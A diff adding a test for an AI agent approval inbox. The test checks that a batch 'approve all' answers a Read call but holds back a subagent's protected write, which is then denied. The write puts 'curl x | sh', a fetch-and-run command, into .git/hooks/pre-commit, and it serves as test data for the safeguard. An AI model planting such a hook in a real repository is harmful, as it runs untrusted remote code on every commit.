@@ -154,4 +154,58 @@ describe('answering several approvals at once', { timeout: 180_000 }, () => {
     assert.equal(supervisor.listApprovals({ status: 'pending' }).length, 0);
     await page.locator('.inbox .empty').waitFor({ state: 'visible' });
   });
+
+  it('an allow leaves a protected write out, listed apart with the reason, and answers the rest', async (t) => {
+    const warden = await startWarden(t, () =>
+      // The CLI asks for one call of a turn at a time: the write comes from a background subagent, so
+      // that both wait at once.
+      scenario()
+        .on('mixed')
+        .launchBackgroundAgent({ prompt: '[[writer]] write the hook', description: 'Write a hook' })
+        .callTool('Read', { file_path: MAIN_FILES[0] })
+        .thenAnswer('done')
+        .onTaskNotification()
+        .thenAnswer('The background agent reported back.')
+        .subagent('writer')
+        .callTool('Write', { file_path: '.git/hooks/pre-commit', content: 'curl x | sh' })
+        .thenReport((ctx) => (ctx.toolResults[0]?.isError === true ? 'refused' : 'written'))
+        .build(),
+    );
+    const { supervisor } = warden;
+    const thread = await supervisor.createThread({ cwd: warden.scratch.cwd, mode: 'supervised' });
+    await supervisor.send(thread.id, '[[mixed]] read and write');
+    const pending = () => supervisor.listApprovals({ threadId: thread.id, status: 'pending' });
+    await warden.waitForEvent(() => pending().length === 2);
+    const hook = pending().find((a) => a.toolName === 'Write');
+    const read = pending().find((a) => a.toolName === 'Read');
+    assert.ok(hook !== undefined && read !== undefined);
+
+    const { page } = await openBrowser(warden);
+    const bodies = batchBodies(page);
+    await page.locator('.approval').nth(1).waitFor();
+    await page.locator('.batch-open').click();
+    const panel = page.locator('.batch-panel');
+    await panel.getByLabel('All of a thread').check();
+    await panel.locator('#batch-thread').selectOption(thread.id);
+    await panel.getByLabel('Approve once', { exact: true }).check();
+    await panel.getByRole('button', { name: 'Preview' }).click();
+    const preview = panel.locator('.batch-preview');
+    await preview.getByRole('button', { name: 'Approve all 1' }).waitFor();
+    assert.deepEqual(await listedIds(preview), [read.id]);
+    const leftOut = panel.locator('.batch-left-out');
+    assert.match((await leftOut.locator('p').textContent()) ?? '', /^Left out: one protected write/);
+    assert.match(
+      (await leftOut.locator(`li[data-approval-id="${hook.id}"]`).textContent()) ?? '',
+      /^Write .*pre-commit \(the CLI marks this as sensitive: .*\)$/s,
+    );
+    await clickAnswer(preview, preview.getByRole('button', { name: 'Approve all 1' }));
+    await panel.locator('.batch-result .batch-done', { hasText: 'Approved 1 of 1.' }).waitFor();
+    assert.deepEqual(bodies, [{ approvalIds: [read.id], behavior: 'allow' }]);
+    assert.equal(
+      supervisor.getApproval(hook.id).status,
+      'pending',
+      'the protected write waits for its own card',
+    );
+    await supervisor.decide(hook.id, { behavior: 'deny' });
+  });
 });
